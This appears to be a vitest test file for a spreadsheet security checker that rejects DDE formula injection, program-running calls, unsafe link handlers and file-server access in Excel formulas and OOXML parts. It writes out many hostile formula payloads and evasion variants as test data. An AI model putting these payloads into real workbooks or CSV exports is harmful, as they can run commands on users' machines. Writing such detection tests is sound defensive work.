import fc from "fast-check"
import { describe, expect, test } from "vitest"
import { cell, excel, judge, workbookType } from "./formulas.fixture"

describe("S55 refuses", () => {
  test.each([
    "calc|A!A0",
    "certutil|foo!A1",
    "cmd|'/c calc'!A0",
    "'cmd'|'/c calc'!A0",
    "cmd |'/c calc'!A0",
    "cmd\n|\n'/c calc'!A0",
    "+cmd|'/c calc'!A0",
    "-2+3+cmd|'/c calc'!A0",
    "@SUM(cmd|'/c calc'!A0)",
    "IF(1=1,MSEXCEL|'\\..\\a'!A0,0)",
    '"a"&x|y!z',
    "C:\\Windows\\System32\\cmd.exe|'/c calc'!A0",
    "'cmd|/c calc'!A0",
    "'cmd|calc.exe'!A0",
    "'Excel|[Book1]Sheet1'!R1C1",
    "'cmd|a",
    "=cmd|a!A0",
    "cmd_x007C_'/c calc'!A0",
    "cmd_x007c_a!A0",
    "[cmd|'/c calc'!A0",
    "\"a cmd|'/c calc'!A0",
    "IF(TRUE,cmd|a!A0)",
    "{cmd|a!A0}",
    'DDE("cmd","/c","a")',
    '_xlfn.INITIATE("cmd","/c")',
    'EXECUTE(1,"a")',
  ])("DDE in %s", (formula) => expect(cell(formula)).toBe("dde"))

  test.each([
    'REGISTER.ID("\\\\server\\share\\a.xll","a")',
    'register.id ("a.xll","a")',
    'CALL("Kernel32","WinExec","JFJ","calc",0)',
    'IF(A1,CALL("a","b"),0)',
    'EXEC("calc")',
    "1+FOPEN(A1)",
    '__xludf.CALL("a")',
    '_xll.REGISTER("a.xll","a")',
    "Sheet1!EXEC(A1)",
    "MAP(A1:A2,_xleta.EXEC)",
    'SEND.KEYS("a")',
  ])("a call of a program in %s", (formula) => expect(cell(formula)).toBe("runs_program"))

  test.each<[string, string, string]>([
    ["a name", "dde", "<definedName>cmd|'/c calc'!A0</definedName>"],
    ["a rule's formula", "dde", "<formula1>cmd|a!A0</formula1>"],
    ["a column's formula", "dde", "<calculatedColumnFormula>cmd|a!A0</calculatedColumnFormula>"],
    [
      "an extension's formula",
      "dde",
      '<a:f xmlns:a="http://schemas.microsoft.com/office/excel/2006/main">cmd|a!A0</a:f>',
    ],
    [
      "a chart's formula",
      "dde",
      '<c:f xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chart">cmd|a!A0</c:f>',
    ],
    ["a control in VML", "dde", '<x:FmlaLink xmlns:x="urn:schemas-microsoft-com:office:excel">cmd|a!A0</x:FmlaLink>'],
    [
      "a shape's text",
      "dde",
      '<d:sp xmlns:d="http://schemas.openxmlformats.org/drawingml/2006/spreadsheetDrawing" textlink="cmd|a!A0"/>',
    ],
    [
      "a chart's drawing",
      "dde",
      '<c:sp xmlns:c="http://schemas.openxmlformats.org/drawingml/2006/chartDrawing" textlink="cmd|a!A0"/>',
    ],
    [
      "a new kind of chart",
      "dde",
      '<c:f xmlns:c="http://schemas.microsoft.com/office/drawing/2014/chartex">cmd|a!A0</c:f>',
    ],
    ["a formula around another", "dde", "<f>cmd|a!A0<f>1</f></f>"],
    ["a formula in pieces", "dde", "<f>cm<b/>d<![CDATA[|]]>a<!-- -->!A0</f>"],
    ["a threshold's formula", "dde", '<cfvo type="formula" val="cmd|a!A0"/>'],
    ["a control's cell", "dde", '<controlPr linkedCell="cmd|a!A0"/>'],
    ["a pivot table's field", "dde", '<cacheField formula="cmd|a!A0"/>'],
    ["formulas within formulas", "too_complex", `${"<f>".repeat(9)}1${"</f>".repeat(9)}`],
    ["a link in two pieces", "unsafe_link", '<f>HYPERLINK("search-"&amp;"ms:a","b")</f>'],
    ["a link in joined pieces", "unsafe_link", '<f>HYPERLINK(CONCATENATE("java","script:a"))</f>'],
    ["a link behind a condition", "unsafe_link", '<f>HYPERLINK(IF(A1,"ms-msdt:a",B1))</f>'],
    ["a workbook at a script", "unsafe_link", "<f>'script:http://example.org/[a]b'!A1</f>"],
    ["a workbook at a script without quotes", "unsafe_link", "<f>1+script://example.org/[a]b!A1</f>"],
    ["data of a file server", "file_server", '<f>WEBSERVICE("file://server/a")</f>'],
    [
      "a macro of another file in VML",
      "runs_program",
      '<x:FmlaMacro xmlns:x="urn:schemas-microsoft-com:office:excel">[1]!Run</x:FmlaMacro>',
    ],
    ["a macro that is a path", "runs_program", '<sp macro="C:\\a.xlsm"/>'],
    ["a macro that is a formula", "runs_program", '<sp macro="EXEC(1)"/>'],
    ["a DDE link", "dde", '<ddeLink ddeService="cmd" ddeTopic="/c"/>'],
    ["a link to a handler", "unsafe_link", '<f>HYPERLINK("search-ms:a","b")</f>'],
    ["a picture of a file server", "file_server", '<f>_xlfn.IMAGE("\\\\server\\a.png")</f>'],
    ["a macro of another file", "runs_program", "<sp macro=\"'http://example.org/a.xlsm'!Run\"/>"],
    ["a macro of a linked file", "runs_program", '<sp macro="[1]!Run"/>'],
    ["a formula longer than any", "too_complex", `<f>${"1+".repeat(40_000)}1</f>`],
  ])("%s: %s", (_, reason, content) => expect(judge(content)).toBe(reason))

  test("DDE behind the name of a sheet that is none of the workbook's", () => {
    const formula = "<f>'cmd|calc.exe'!A0</f>"
    const sheet = '<sheet name="cmd|calc.exe"/>'
    expect(judge(formula)).toBe("dde")
    expect(judge(`${formula}${sheet}`)).toBe("dde")
    expect(judge(`${formula}<a><sheets>${sheet}</sheets></a>`)).toBe("dde")
    const pretended = `<workbook ${excel}><sheets>${sheet}</sheets></workbook>`
    for (const type of ["", "application/xml", workbookType])
      expect(judge(formula, [{ type, xml: pretended }])).toBe("dde")
    expect(judge(Array.from({ length: 1_001 }, (_, at) => `<f>'a|${at}'!A1</f>`).join(""))).toBe("too_complex")
  })

  test("DDE behind any padding and in any pieces", () => {
    const padding = fc.string({ unit: fc.constantFrom(" ", "\t", "\n", "\u00a0", "\u200b"), maxLength: 200 })
    fc.assert(
      fc.property(padding, padding, padding, (before, left, right) => {
        expect(cell(`${before}SUM(1)+cmd${left}|${right}'/c calc'!A0`)).toBe("dde")
      }),
    )
    for (const length of [1_000, 8_192, 50_000])
      expect(cell(`${" ".repeat(length)}cmd${"\n".repeat(5_000)}|a!A0`)).toBe("dde")
  })
})

describe("notes", () => {
  test.each([
    ['WEBSERVICE("https://example.org/?"&A1)', "external_data"],
    ['FILTERXML(WEBSERVICE(A1),"//a")', "external_data"],
    ['RTD("prog",,"a")', "external_data"],
    ["'\\\\server\\share\\[Book.xlsx]Sheet'!A1", "external_data"],
    ["\\\\server\\share\\[Book.xlsx]Sheet!A1", "external_data"],
    ["'https://example.org/[Book.xlsx]Sheet'!A1", "external_data"],
    ["'C:\\Books\\[Book.xlsx]Sheet'!A1+1", "external_data"],
    ["https://example.org/[Book.xlsx]Sheet!A1", "external_data"],
    ["1+C:\\[Book.xlsx]Sheet!A1", "external_data"],
    ["//server/share/[Book.xlsx]Sheet!A1", "external_data"],
    ["'file:///C:/a.xlsx'#$Sheet1.A1", "external_data"],
    ["MAP(A1:A2,_xleta.WEBSERVICE)", "external_data"],
    ["WEBSERVICE(A1)", "external_data"],
    ['WEBSERVICE(IF(A1="https://example.org/",B1,C1))', "external_data"],
    ["_xlfn.IMAGE(A1)", "external_pictures"],
    ['HYPERLINK("[\\\\server\\share\\Book.xlsx]Sheet!A1")', "external_links"],
    ['_xlfn.IMAGE("https://example.org/a.png")', "external_pictures"],
    ['HYPERLINK("\\\\server\\share","a")', "external_links"],
  ])("%s: %s", (formula, code) => expect(cell(formula)).toBe(code))

  test("Power Query", () => {
    expect(judge('<m:DataMashup xmlns:m="http://schemas.microsoft.com/DataMashup">AAAA</m:DataMashup>')).toBe(
      "external_data",
    )
  })
})
